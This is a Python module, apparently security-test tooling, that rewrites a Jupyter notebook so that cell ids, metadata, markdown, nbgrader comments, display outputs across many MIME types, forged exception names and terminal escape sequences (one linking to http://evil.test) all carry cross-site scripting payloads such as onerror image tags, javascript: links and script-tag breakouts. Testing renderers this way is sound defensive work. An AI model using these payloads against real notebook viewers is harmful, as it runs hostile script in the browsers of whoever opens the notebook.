"""A notebook with every vector in it: sources, outputs, names and metadata that turn on whoever opens a page of it."""

from __future__ import annotations

from typing import Any

import nbformat
from nbformat import NotebookNode

from hostile_prose import ATTACHMENTS, CELL_METADATA, HTML, MARKDOWN, METADATA, RUN, SVG

KINDS = {
    "application/javascript": RUN,
    "image/svg+xml": SVG,
    "text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "text/markdown": f"[x](javascript:{RUN})",
    "text/vnd.mermaid": f"<img src=x onerror={RUN}>",
    "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"},
    "image/png": f"'><img src=x onerror={RUN}>",
}
DISPLAYS = """
import sys
from IPython.display import display

for html in {html!r}:
    display({{"text/html": html, "text/plain": "x"}}, raw=True)
    display({{"text/html": html}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
for kind, value in {kinds!r}.items():
    display({{kind: value, "text/plain": "x"}}, raw=True, metadata={{"image/png": {{"width": {handler!r}}}}})
print({handler!r}, "\\x1b]8;;http://evil.test\\x07", file=sys.stderr)
print("\\x1b[31m", {handler!r}, "$\\\\href{{javascript:{run}}}{{x}}$")
get_ipython().execution_count = {handler!r}
"""
FAILS = """
class Forged(Exception):
    pass
Forged.__name__ = {handler!r}
raise Forged({handler!r})
"""
HANDLER = f"'\"><img src=x onerror={RUN}>"


def hostile(notebook: NotebookNode) -> dict[str, Any]:
    """The notebook, which is changed, with every vector in it."""
    for cell in notebook.cells:
        cell.metadata.update(CELL_METADATA)
        cell.metadata.get("nbgrader", {})["comment"] = HANDLER
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "question":
            cell.source, cell.attachments = "\n\n".join(MARKDOWN.values()), ATTACHMENTS
    for source in MARKDOWN.values():
        cell = nbformat.v4.new_markdown_cell(source, metadata=CELL_METADATA, attachments=ATTACHMENTS)
        notebook.cells += [cell, nbformat.v4.new_raw_cell(source)]
    for index, cell in enumerate(notebook.cells):
        cell.id = f"'><img src=x onerror={RUN}>{index}"
    displays = DISPLAYS.format(html=list(HTML.values()), kinds=KINDS, handler=HANDLER, run=RUN)
    notebook.cells += map(nbformat.v4.new_code_cell, (displays, FAILS.format(handler=HANDLER), f"# {HANDLER}"))
    notebook.metadata.update(METADATA)
    return dict(notebook)
